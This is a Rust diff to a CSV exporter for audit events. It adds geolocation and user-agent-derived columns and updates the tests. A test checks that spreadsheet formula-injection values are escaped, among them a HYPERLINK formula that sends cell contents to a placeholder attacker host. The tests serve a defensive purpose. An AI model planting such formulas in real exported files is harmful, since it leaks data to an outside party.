@@ -3,14 +3,15 @@
 use std::io::{self, Write};
 
 use csv::{QuoteStyle, Terminator, WriterBuilder};
+use kiavi_base::Device;
 use serde_json::Value;
 
 use super::EventLine;
 use crate::{Facts, SealedGroup};
 
-/// The columns. `ip`, `user_agent` and `personal` are empty unless they were opened; `personal` has the fields about the
-/// subject in JSON.
-const COLUMNS: [&str; 13] = [
+/// The columns. Those from `ip` on are empty unless they were opened; `browser`, `os` and `device` are what the user agent
+/// tells, and `personal` has the fields about the subject in JSON.
+const COLUMNS: [&str; 18] = [
     "index",
     "id",
     "type",
@@ -22,7 +23,12 @@ const COLUMNS: [&str; 13] = [
     "method",
     "detail",
     "ip",
+    "country",
+    "network",
     "user_agent",
+    "browser",
+    "os",
+    "device",
     "personal",
 ];
 
@@ -65,7 +71,9 @@ impl<W: Write> CsvTable<W> {
             [one] => one.to_string(),
             several => Value::Array(several.to_vec()).to_string(),
         };
-        let row: [String; 13] = [
+        let user_agent = of_request("user_agent");
+        let device = Device::of(&user_agent);
+        let row: [String; 18] = [
             line.index.map(|index| index.to_string()).unwrap_or_default(),
             text(&line.id),
             // An event that cannot be read is told as such, not left out.
@@ -78,7 +86,12 @@ impl<W: Write> CsvTable<W> {
             text(&line.method),
             line.detail.as_ref().map(Value::to_string).unwrap_or_default(),
             of_request("ip"),
-            of_request("user_agent"),
+            of_request("country"),
+            of_request("network"),
+            user_agent,
+            device.browser().unwrap_or_default().to_owned(),
+            device.system().unwrap_or_default().to_owned(),
+            device.device().unwrap_or_default().to_owned(),
             personal,
         ];
         Ok(self.0.write_record(row.map(harmless))?)
@@ -138,7 +151,12 @@ mod tests {
             kind: Some("email.changed".to_owned()),
             detail: Some(json!({"a": 1})),
             personal: vec![
-                personal("request", Some(facts(json!({"ip": "192.0.2.1", "user_agent": "Fire, \"fox\""})))),
+                personal(
+                    "request",
+                    Some(facts(json!({
+                        "ip": "192.0.2.1", "country": "FR", "network": "AS3215 Orange", "user_agent": "curl/8, \"x\"",
+                    }))),
+                ),
                 personal("subject", Some(facts(json!({"email": "a@b.example"})))),
             ],
             ..EventLine::default()
@@ -146,8 +164,10 @@ mod tests {
         let closed = EventLine { personal: vec![personal("request", None)], ..line.clone() };
         let rows = read(&table(&[line, closed]));
         assert_eq!(rows[0], COLUMNS);
-        assert_eq!(rows[1][10..], ["192.0.2.1", "Fire, \"fox\"", r#"{"email":"a@b.example"}"#]);
-        assert_eq!(rows[2][10..], ["", "", ""]);
+        let request = ["192.0.2.1", "FR", "AS3215 Orange", "curl/8, \"x\"", "curl", "", "bot"];
+        assert_eq!(rows[1][10..17], request);
+        assert_eq!(rows[1][17..], [r#"{"email":"a@b.example"}"#]);
+        assert!(rows[2][10..].iter().all(String::is_empty));
         assert_eq!((rows[1][0].as_str(), rows[1][9].as_str()), ("3", r#"{"a":1}"#));
         assert_eq!(read(&table(&[EventLine::default()]))[1][2], "(unreadable)");
     }
@@ -167,7 +187,7 @@ mod tests {
             "\0=1",
             "=HYPERLINK(\"https://evil.example?\"&A1)",
         ] {
-            let fields = facts(json!({"ip": hostile, "user_agent": hostile}));
+            let fields = facts(json!({"ip": hostile, "network": hostile, "user_agent": hostile}));
             let line = EventLine {
                 id: Some(hostile.to_owned()),
                 actor: Some(hostile.to_owned()),
@@ -182,7 +202,7 @@ mod tests {
             };
             let text = table(&[line]);
             let rows = read(&text);
-            for column in [1, 6, 8, 10, 11] {
+            for column in [1, 6, 8, 10, 12, 13] {
                 assert_eq!(rows[1][column], format!("'{hostile}"), "{column}");
             }
         }
@@ -203,7 +223,7 @@ mod tests {
             let rows = read(&text);
             prop_assert_eq!(rows.len(), 3);
             for row in &rows[1..] {
-                prop_assert_eq!(row.len(), 13);
+                prop_assert_eq!(row.len(), COLUMNS.len());
                 for (cell, text) in [1, 6, 7, 8].into_iter().zip(&texts) {
                     let quoted = format!("'{text}");
                     prop_assert!(row[cell] == *text || row[cell] == quoted);
